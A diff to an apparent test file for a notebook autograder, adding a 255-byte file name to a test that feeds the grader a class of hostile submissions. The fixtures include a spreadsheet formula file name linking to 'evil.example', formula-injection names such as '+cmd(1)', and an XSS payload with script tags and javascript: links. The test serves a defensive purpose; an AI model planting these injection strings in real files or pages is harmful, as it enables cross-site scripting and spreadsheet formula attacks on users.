@@ -42,6 +42,7 @@ CLASS3 = Path(__file__).resolve().parent / "data" / "class3"
 HONEST = CLASS3 / "submissions" / "alice.ipynb"  # 7/7
 FORMULA_NAME = '=HYPERLINK("evil.example?x=1","open")'
 LONG_NAME = "L" * 240
+LONGEST_NAME = "M" * 249  # with ".ipynb", the 255 bytes a file name may have
 # What the exception of the formula-named notebook says: markup for the pages, a formula, a cursor-up and
 # erase-line sequence and a forged line of the terminal's.
 PAYLOAD = ("</pre><script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3)) "
@@ -122,6 +123,7 @@ def _class(folder: Path) -> None:
     (folder / "+cmd(1).ipynb").write_text("not a notebook", encoding="utf-8")  # its error starts with its name
     (folder / "@SUM(1+1)cmd.py").write_bytes(b"# %%\nprint('\xff\xfe')\n")  # not UTF-8: the same
     _notebook(folder / f"{LONG_NAME}.ipynb")
+    _notebook(folder / f"{LONGEST_NAME}.ipynb")
     (folder / "deep.ipynb").write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}", encoding="utf-8")
     _notebook(folder / "blank_lines.ipynb", ("x = 1\n" + " \n" * 45_000 + "y = 2\n",))
     _notebook(folder / "oversize.ipynb", ("".join(f"v{i} = {i}\n" for i in range(12_000)),))
@@ -173,12 +175,13 @@ def test_a_hostile_class_changes_no_classmates_grade_and_breaks_no_output(tmp_pa
     names = set(graded.rows)
     expected = {"alice", "dave.ipynb", "dave.py", "dave.ipynb.py", "王小明", "bob smith", "bob_smith", FORMULA_NAME,
                 "+cmd(1)", "@SUM(1+1)cmd", LONG_NAME, "deep", "blank_lines", "oversize", "forge_shapes", "forge_good",
-                "copycat"}
+                "copycat", LONGEST_NAME}
     findings.check(names == expected and len(graded.report.get("submissions", [])) == len(expected),
                    f"one row per file, each under a name of its own: {sorted(names)}")
 
     # Grades: mallory's dave.ipynb.py and a name in Chinese cost nobody a point.
-    for name in ("alice", "dave.ipynb", "王小明", "bob smith", LONG_NAME, "blank_lines", "oversize", "copycat"):
+    for name in ("alice", "dave.ipynb", "王小明", "bob smith", LONG_NAME, "blank_lines", "oversize", "copycat",
+                 LONGEST_NAME):
         findings.verdict(name, FULL_MARKS, 7, None)
     findings.verdict(FORMULA_NAME, FULL_MARKS, 7, "cell 8 raised ValueError")
     findings.verdict("bob_smith", FULL_MARKS, 7, "bob_smith broke this")
